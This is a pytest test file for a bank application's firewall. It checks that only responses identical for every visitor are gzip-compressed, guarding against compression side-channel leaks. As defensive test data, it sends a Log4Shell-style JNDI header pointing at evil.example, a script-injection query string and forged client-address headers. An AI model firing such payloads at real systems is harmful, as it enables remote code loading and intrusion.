"""What the firewall compresses: only answers that are the same for everybody (docs/adr/0026, R8.4)."""

import gzip
import http.client
import json
from collections.abc import Callable
from typing import Any

import pytest
from django.core.signals import request_started

from tests.access.pages import every_page, path_of
from tests.access_walk import Hers
from tests.asvs import proves
from tests.compressed import EVERYBODYS, VISITORS
from tests.firewall.conftest import readable_folder, running, spare_port
from tests.firewall.visitor import Firewall, Visitor

ASKED = {"Accept-Encoding": "gzip, br, deflate, identity;q=0.5"}


def raw(firewall: Firewall, path: str, *, method: str = "GET", **headers: str) -> tuple[int, dict[str, str], bytes]:
    """Return status, headers and bytes as they came."""
    connection = http.client.HTTPConnection("localhost", firewall.port, timeout=30)
    try:
        connection.request(method, path, headers={"User-Agent": "Mozilla/5.0", "Accept": "*/*"} | ASKED | headers)
        answer = connection.getresponse()
        told = {name.lower(): ", ".join(answer.headers.get_all(name, [])) for name in answer.headers}
        return answer.status, told, answer.read()
    finally:
        connection.close()


def is_compressed(answer: tuple[int, dict[str, str], bytes]) -> bool:
    status, headers, body = answer
    assert status == 200
    assert ("content-encoding" in headers) == body.startswith(b"\x1f\x8b")
    return "content-encoding" in headers


@proves("V12.2.1")
@pytest.mark.parametrize("path", sorted(VISITORS | EVERYBODYS))
def test_what_says_the_same_to_everybody_is_compressed(firewall: Firewall, path: str) -> None:
    plain = raw(firewall, path, **{"Accept-Encoding": "identity"})
    assert not is_compressed(plain)
    status, headers, body = raw(firewall, path)
    assert (status, headers["content-encoding"]) == (200, "gzip")
    assert "Accept-Encoding" in headers["vary"]
    assert "no-store" in headers["cache-control"]
    assert len(body) < len(plain[2]) / 2
    assert abs(len(gzip.decompress(body)) - len(plain[2])) < 5


def test_a_visitor_who_comes_back_without_a_session_gets_it_so_too(firewall: Firewall) -> None:
    for cookies in (
        "csrftoken=abc; bank-device=def",
        "__Host-bank-csrf=abc",
        "__Host-bank-device=x; __Host-bank-csrf=y",
    ):
        assert is_compressed(raw(firewall, "/sign-in/", Cookie=cookies))


@proves("V12.2.1")
@pytest.mark.parametrize("path", sorted(VISITORS))
def test_what_is_asked_with_anything_to_reflect_or_by_somebody_is_not(firewall: Firewall, path: str) -> None:
    for query in ("?next=/dashboard/", "?email=alice@example.com", "?", "?a"):
        assert not is_compressed(raw(firewall, path + query)), query
    for cookies in (
        "sessionid=abc",
        "csrftoken=abc; sessionid=def",
        "__Host-bank-session=abc; __Host-bank-csrf=def",
        "csrftoken=abc;__Host-bank-session=def",
        "bank-device=a; another=1",
        "csrftoken",
    ):
        assert not is_compressed(raw(firewall, path, Cookie=cookies)), cookies


def test_an_address_written_in_another_way_is_not(firewall: Firewall) -> None:
    for path in ("/SIGN-IN/", "/sign-in", "/sign%2Din/", "//sign-in/", "/sign-in/#a", "/sign-in/x", "/x/sign-in/", "/"):
        _, headers, _ = raw(firewall, path)
        assert "content-encoding" not in headers, path


@proves("V12.2.1")
def test_of_everything_that_a_customer_looks_at_nothing_is(
    firewall: Firewall, hers: Hers, signed_in: Callable[[Any], Visitor], alice: Any
) -> None:
    browser, shown = signed_in(alice), 0
    for page in every_page():
        path = path_of(page, hers)
        for address in (path, f"{path}?q=Zanzibar&text=Zanzibar"):
            answer = browser.ask("GET", address, headers=ASKED)
            shown += answer.status == 200 and "Alice" in answer.text
            assert "Content-Encoding" not in answer.headers, address
    assert shown > 20


@proves("V12.2.1")
def test_nor_what_staff_and_programs_are_shown(
    firewall: Firewall, hers: Hers, signed_in: Callable[[Any], Visitor], ada: Any, alice: Any, api_of: Any
) -> None:
    staff = signed_in(ada)
    for path in ("/admin/", "/admin/accounts/user/", "/admin/accounts/user/?q=alice", "/admin/transfers/transaction/"):
        answer = staff.ask("GET", path, headers=ASKED)
        assert (answer.status, answer.headers.get("Content-Encoding")) == (200, None)
    token = {"Authorization": f"Bearer {api_of(alice).tokens.access_token}"}
    for path in ("accounts", "transactions", "transactions?text=Zanzibar", "profile"):
        assert not is_compressed(raw(firewall, f"/api/v1/{path}", **token)), path
    assert is_compressed(raw(firewall, "/api/v1/openapi.json", **token)), "which says nothing of who asks"


def test_nor_an_answer_to_a_form_nor_what_the_firewall_says_itself(firewall: Firewall) -> None:
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for method, path, headers in (
        ("POST", "/sign-in/", form),
        ("HEAD", "/sign-in/", {}),
        ("GET", "/sign-in/?text=%3Cscript%3Ealert(1)%3C/script%3E", {}),
        ("GET", "/firewall-style.css", {}),
        ("GET", "/no/such/page/", {}),
    ):
        _, answered, _ = raw(firewall, path, method=method, **headers)
        assert "content-encoding" not in answered, (method, path)


def test_the_door_does_the_same_for_what_is_compressed(
    visitor: Callable[..., Visitor], firewall: Firewall, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The rules, the client's address, the pages of refusals, the access log and the flood limits."""
    seen: list[dict[str, str]] = []

    def note(environ: dict[str, Any], **kwargs: Any) -> None:
        seen.append(environ)

    request_started.connect(note)
    try:
        forged = {"X-Forwarded-For": "203.0.113.9", "X-Real-IP": "203.0.113.9"} | ASKED
        assert (
            visitor(address="127.0.0.2").ask("GET", "/sign-in/", headers=forged).headers["Content-Encoding"] == "gzip"
        )
    finally:
        request_started.disconnect(note)
    assert [(each["HTTP_X_FORWARDED_FOR"], each.get("HTTP_X_REAL_IP", "")) for each in seen] == [("127.0.0.2", "")]
    refused = visitor().ask("GET", "/sign-in/", headers={"X-Note": "${jndi:ldap://evil.example}"})
    assert (refused.is_refusal, refused.status) == (True, 403)
    assert "We did not let this through" in refused.text
    lines = [json.loads(line) for line in firewall.logs()["access.log"].splitlines()]
    assert {("/sign-in/", "200", "bank"), ("/sign-in/", "403", "rules")} <= {
        (line["path"], line["status"], line["answered_by"]) for line in lines
    }
    nobody = f"127.0.0.1:{spare_port()}"
    with running(readable_folder(tmp_path_factory), nobody, FIREWALL_REQUESTS_PER_SECOND="1") as slow:
        stranger = Visitor(slow.port, [])
        answers = [stranger.get("/sign-in/") for _ in range(260)]
        assert {answer.status for answer in answers[:200]} == {502}
        assert "does not answer just now" in answers[0].text
        assert 429 in {answer.status for answer in answers}
